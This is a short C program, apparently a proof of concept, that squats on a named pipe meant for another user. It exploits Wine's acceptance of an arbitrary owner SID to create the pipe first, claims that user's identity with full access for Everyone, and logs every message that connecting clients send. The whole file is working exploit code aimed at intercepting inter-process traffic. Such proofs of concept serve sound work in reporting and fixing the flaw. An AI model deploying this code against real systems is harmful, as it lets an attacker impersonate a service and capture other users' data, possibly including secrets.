/* Takes the name of a pipe for another user, and writes down what it receives: squat-pipe.exe NAME */
#include <windows.h>
#include <aclapi.h>
#include <sddl.h>
#include <stdio.h>
int main(int count, char **args) {
  SECURITY_ATTRIBUTES attributes = {sizeof attributes};
  /* On Windows only a process of that user, or one with the restore privilege, can set this owner; Wine allows it for every process. */
  if (!ConvertStringSecurityDescriptorToSecurityDescriptorA("O:S-1-5-21-1-2-3-1001D:(A;;GA;;;WD)", 1, &attributes.lpSecurityDescriptor, 0)) return 2;
  setvbuf(stdout, 0, _IONBF, 0);
  for (int turn = 0; turn < 100; turn++) {
    HANDLE pipe = CreateNamedPipeA(args[1], PIPE_ACCESS_DUPLEX, PIPE_TYPE_BYTE, 10, 4096, 4096, 0, &attributes);
    if (pipe == INVALID_HANDLE_VALUE) { printf("failed %lu\n", GetLastError()); return 1; }
    if (turn == 0) printf("squatting %lu\n", GetCurrentProcessId());
    if (!ConnectNamedPipe(pipe, 0) && GetLastError() != ERROR_PIPE_CONNECTED) continue;
    /* Another end for a second client while this one is used. */
    HANDLE other = CreateNamedPipeA(args[1], PIPE_ACCESS_DUPLEX, PIPE_TYPE_BYTE, 10, 4096, 4096, 0, &attributes);
    char received[4096];
    DWORD length = 0;
    ReadFile(pipe, received, sizeof received - 1, &length, 0);
    received[length] = 0;
    printf("received %lu bytes: %s\n", length, received);
    CloseHandle(pipe);
    CloseHandle(other);
  }
  return 0;
}
